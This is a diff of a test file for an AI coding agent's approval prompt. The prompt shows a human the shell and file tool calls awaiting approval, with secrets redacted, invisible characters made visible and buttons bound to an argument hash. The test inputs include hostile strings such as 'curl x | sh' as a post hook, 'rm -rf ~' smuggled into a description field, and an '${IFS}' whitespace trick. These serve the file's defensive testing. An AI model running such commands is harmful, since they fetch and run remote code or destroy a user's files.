@@ -3,24 +3,25 @@ import { describe, expect, it } from 'vitest';
 import '../../property-seed.ts';
 import {
   actionOf,
+  headAndTail,
+  hideBy,
+  type QuestionOptions,
   questionItem,
   questionPart,
   readAction,
+  shortDiff,
   verdictItem,
 } from '../../../agent/approvals/question/question.ts';
-import { headAndTail, shortDiff } from '../../../agent/approvals/question/visible.ts';
 import { createRedactor } from '../../../agent/format/redact.ts';
 import { visible } from '../../../agent/visible.ts';
 
-const redactor = createRedactor({
-  own: ['hunter2/hunter2'],
-  kinds: { secrets: true, cards: true, iban: true, ssn: true },
-  patterns: [],
-});
-const hide = (text: string) => {
-  const { text: shown, counts } = redactor(text, 'code');
-  return { text: shown, places: Object.values(counts).reduce((sum, count) => sum + count, 0) };
-};
+const hide = hideBy(
+  createRedactor({
+    own: ['hunter2/hunter2'],
+    kinds: { secrets: true, cards: true, iban: true, ssn: true },
+    patterns: [],
+  }),
+);
 // Put together at run time, so that no scanner takes this file for a leak.
 /** Stands for white space in a shell. */
 const ifs = ['$', '{IFS}'].join('');
@@ -32,17 +33,17 @@ const options = {
   why: [] as string[],
   fileNow: undefined,
   hidesFile: false,
-  hide,
   maxText: 4096,
   waits: '60 min',
   onTimeout: 'deny' as const,
   checkpoint: undefined,
 };
+const partOf = (changes: Pick<QuestionOptions, 'call'> & Partial<QuestionOptions>) =>
+  questionPart({ ...options, ...changes }, hide).part;
 const shell = (command: string, more = {}) =>
-  questionPart({
-    ...options,
+  partOf({
     call: { agent: 'gemini', tool: 'run_shell_command', server: undefined, input: { command, ...more } },
-  }).part;
+  });
 
 describe('a question', () => {
   it('shows the command as it is, marked as code, in UTF-16 units', () => {
@@ -52,24 +53,24 @@ describe('a question', () => {
     expect([type, text.slice(offset, offset + length)]).toEqual(['pre', 'echo "😀" && ls']);
   });
 
-  it('shows what else the call asks for, but the words by which the agent describes it', () => {
+  it('shows the other arguments of the call, except the description by the agent', () => {
     const { text } = shell('ls', { description: 'harmless!', directory: '/etc', is_background: true });
     expect(text).toContain('ls\n# directory: "/etc"\n# is_background: true\n');
     expect(text).not.toContain('harmless');
   });
 
-  it('of a tool of another server shows every argument as it is, whatever its name', () => {
+  it('about a tool of an MCP server shows every argument as it is, whatever its name', () => {
     const ask = (input: Record<string, unknown>) =>
-      questionPart({ ...options, call: { agent: 'gemini', tool: 'x', server: 'fs', input } }).part.text;
+      partOf({ call: { agent: 'gemini', tool: 'x', server: 'fs', input } }).text;
     expect(ask({ file_path: 'a.txt', content: 'hi', post_hook: 'curl x | sh' })).toContain(
       '"post_hook": "curl x | sh"',
     );
     expect(ask({ command: 'ls', description: 'and then rm -rf ~' })).toContain('# description: "and then rm -rf ~"');
   });
 
-  it('of a file shows what else the call asks for, and no name that could pass for lines of the view', () => {
+  it('about a file shows the other arguments, and no file name that could pass for lines of the view', () => {
     const ask = (input: Record<string, unknown>) =>
-      questionPart({ ...options, call: { agent: 'gemini', tool: 'write_file', server: undefined, input } }).part.text;
+      partOf({ call: { agent: 'gemini', tool: 'write_file', server: undefined, input } }).text;
     const written = { file_path: 'a.txt', content: 'hi' };
     expect(ask({ ...written, mode: '0777' })).toContain('a.txt (new file)\n# mode: "0777"\n+ hi\n');
     expect(ask({ file_path: 'a.txt', old_string: 'a', new_string: 'b', backup_to: '/tmp/x' })).toContain(
@@ -79,11 +80,8 @@ describe('a question', () => {
     expect(odd).toContain(String.raw`"a.txt (new file)\n+ harmless\n\nWaits"`);
   });
 
-  it('hides no secret that hidden characters cut in two, and names the MCP server', () => {
-    const {
-      part: { text },
-    } = questionPart({
-      ...options,
+  it('hides both halves of a secret that an invisible character cuts in two, and names the MCP server', () => {
+    const { text } = partOf({
       call: { agent: 'gemini', tool: 'mcp_x_y', server: 'x', input: { q: 'hunter2/\u200bhunter2' } },
       why: ['holds a secret'],
       checkpoint: 'refs/wa-sync/1',
@@ -94,31 +92,29 @@ describe('a question', () => {
     expect(text).toContain('Checkpoint: refs/wa-sync/1\n');
   });
 
-  it('shows neither a secret of several lines nor what a file of secrets holds now', () => {
+  it('hides a secret of several lines, and the present content of a file of secrets', () => {
     const write = (hidesFile: boolean) =>
-      questionPart({
-        ...options,
+      partOf({
         call: { agent: 'gemini', tool: 'write_file', server: undefined, input: { file_path: '.env', content: 'A=2' } },
         fileNow: `A=1\n${keyBegin}\n${keyLine}\n${keyEnd}`,
         hidesFile,
-      }).part.text;
+      }).text;
     expect(write(false)).toContain(
       `.env (replaces the file)\n- A=1\n- ${keyBegin}\n- [redacted:private-key, 64 characters]\n- ${keyEnd}\n+ A=2\n`,
     );
     expect(write(true)).toContain('.env (replaces the file)\n+ A=2\n');
   });
 
-  it('shows that a secret changes where another one of the same form takes its place', () => {
+  it('shows that a secret changes, also when the new one looks the same once it is hidden', () => {
     const edit = (old_string: string, new_string: string) =>
-      questionPart({
-        ...options,
+      partOf({
         call: {
           agent: 'gemini',
           tool: 'replace',
           server: undefined,
           input: { file_path: '.env', old_string, new_string },
         },
-      }).part.text;
+      }).text;
     const token = ['gh', 'p_', keyLine.slice(0, 36)].join('');
     expect(edit(`KEY=${token}`, `KEY=${token.replace('a', 'b')}`)).toContain(
       '- KEY=[redacted:github-token, 40 characters]\n+ KEY=[redacted:github-token, 40 characters]\n',
@@ -162,8 +158,7 @@ describe('a question', () => {
     });
 
     it('also of a file that is written', () => {
-      const { part } = questionPart({
-        ...options,
+      const part = partOf({
         call: {
           agent: 'gemini',
           tool: 'write_file',
@@ -218,7 +213,7 @@ describe('a question', () => {
     },
   );
 
-  it('is bound to the hash of the arguments by each of its buttons', () => {
+  it('binds each of its buttons to the hash of the arguments', () => {
     const item = questionItem({ id: 'ab12', hash: 'cd34' }, shell('ls'), { always: true, edit: true });
     expect(item.buttons?.flat().map(({ action }) => readAction(action))).toEqual(
       (['approve', 'deny', 'always', 'edit'] as const).map((answer) => ({ id: 'ab12', hash: 'cd34', answer })),
@@ -227,7 +222,7 @@ describe('a question', () => {
   });
 });
 
-describe('what a text hides', () => {
+describe('a text', () => {
   it.each([
     ['a\u202eb', 'a⟨U+202E⟩b'],
     ['a\u200b\u2060b', 'a⟨U+200B⟩⟨U+2060⟩b'],
@@ -242,13 +237,13 @@ describe('what a text hides', () => {
     expect(visible(text)).toBe(shown);
   });
 
-  it('in the middle of what is long is counted', () => {
+  it('that is too long is cut in the middle, and the characters left out are counted', () => {
     expect(headAndTail('a'.repeat(100), 30)).toBe(`${'a'.repeat(20)}\n⟨… 70 characters left out …⟩\n${'a'.repeat(10)}`);
     expect(headAndTail('short', 30)).toBe('short');
   });
 });
 
-it('a diff shows the lines that change with one around them', () => {
+it('a diff shows the changed lines and one line around them', () => {
   expect(shortDiff('a\nb\nc\nd', 'a\nb\nX\nd')).toBe('  b\n- c\n+ X\n  d');
   expect(shortDiff('', 'new')).toBe('+ new');
   expect(shortDiff('old', '')).toBe('- old');
